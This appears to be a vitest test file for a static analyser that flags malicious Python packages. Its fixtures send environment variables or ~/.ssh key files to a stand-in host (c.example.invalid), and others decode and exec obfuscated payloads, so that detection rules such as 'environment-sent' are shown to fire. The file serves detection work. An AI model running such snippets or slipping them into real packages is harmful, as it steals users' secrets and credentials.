import { expect, it } from 'vitest';
import { rulesIn } from '../../support/rules-in.js';

const SENT = 'python/environment-sent';
const DECODED = 'python/decodes-and-executes';
const send = "requests.post('https://c.example.invalid', data=body)\n";

it.each<[what: string, code: string, rule: string]>([
  [
    'a list of a module',
    `import os, requests\nkept = []\nfor k in os.environ:\n  kept.append(k + os.environ[k])\nbody = kept\n${send}`,
    SENT,
  ],
  [
    'an attribute',
    `import os, requests\nclass A:\n  def __init__(self):\n    self.e = dict(os.environ)\n  def go(self):\n    body = repr(self.e)\n    ${send}`,
    SENT,
  ],
  [
    'a queue and a thread',
    `import os, queue, requests, threading\nq = queue.Queue()\ndef run():\n  body = q.get()\n  ${send}threading.Thread(target=run).start()\nq.put(os.environ.copy())\n`,
    SENT,
  ],
  [
    'a generator',
    `import os, requests\ndef each():\n  for k, v in os.environ.items():\n    yield f'{k}={v}'\nbody = chr(10).join(each())\n${send}`,
    SENT,
  ],
  [
    'a request that it fills',
    `import os, urllib.request as u\nr = u.Request('https://c.example.invalid')\nr.data = str(os.environ).encode()\nu.urlopen(r)\n`,
    SENT,
  ],
  ['characters that a key turns', "a = b'0123456789abcdef'\nexec(bytes(x ^ 7 for x in a))\n", DECODED],
  [
    'a function of a code object',
    "import marshal\ndef f(): pass\ntype(f)(marshal.loads(b'0123456789abcdef'), {})()\n",
    DECODED,
  ],
  [
    'names in parts',
    "import importlib\nm = importlib.import_module('ba' + 'se64')\nexec(getattr(m, 'b64' + 'decode')('cHJpbnQoMSkgICAg'))\n",
    DECODED,
  ],
  [
    'the dictionary of Python itself',
    "import base64\n__builtins__['exec'](base64.b64decode('cHJpbnQoMSkgICAg'))\n",
    DECODED,
  ],
  [
    'a file of keys below the home folder',
    `import requests\nfrom pathlib import Path\ndef read(p):\n  return p.read_text()\nbody = [read(p) for p in (Path.home() / '.ssh').iterdir()]\n${send}`,
    'python/credential-files-sent',
  ],
])('finds %s', async (_, code, rule) => {
  expect(await rulesIn({ 'pkg/core.py': code })).toContain(rule);
});

it.each<[what: string, code: string]>([
  [
    'single variables',
    `import os, requests\nbody = {'a': os.environ['APP'], 'b': os.getenv('REGION')}\n${send}`,
  ],
  ['a number', `import os, requests\nbody = len(os.environ)\n${send}`],
  ['names of variables', `import os, requests\nbody = list(os.environ.keys())\n${send}`],
  ['code that its caller gives', 'import zlib\ndef load(data):\n  exec(zlib.decompress(data))\n'],
  [
    'decoded data',
    "import base64, json\nx = json.loads(base64.b64decode('eyJhIjogMX0gICAg'))\nexec('pass')\n",
  ],
])('reports nothing for %s', async (_, code) => {
  expect(await rulesIn({ 'pkg/core.py': code })).toEqual([]);
});

it('follows what one module of a package collects and another sends', async () => {
  const rules = await rulesIn({
    'pkg/__init__.py': 'from . import a, b\nb.send(a.kept)\n',
    'pkg/a.py': 'import os\nkept = {**os.environ}\n',
    'pkg/b.py': "import requests\ndef send(x):\n  requests.post('https://c.example.invalid', json=x)\n",
  });
  expect(rules).toContain(SENT);
});

it.each([
  ['a text that doubles itself', `x = 'a'\n${'x = x + x\n'.repeat(200)}exec(x)\n`],
  [
    'functions that call each other',
    `import os, requests, base64\n${'def f(a): return f(g(a))\ndef g(a): return g(f(a)) + a\n'.repeat(50)}requests.post('https://c.example.invalid', data=f(base64.b64decode('aaaaaaaaaaaa')))\n`,
  ],
  ['a chain of calls', `import os, requests\nrequests.post${'()'.repeat(400)}(os.environ)\n`],
])('comes to an end with %s', async (_, code) => {
  expect(Array.isArray(await rulesIn({ 'pkg/core.py': code }))).toBe(true);
});
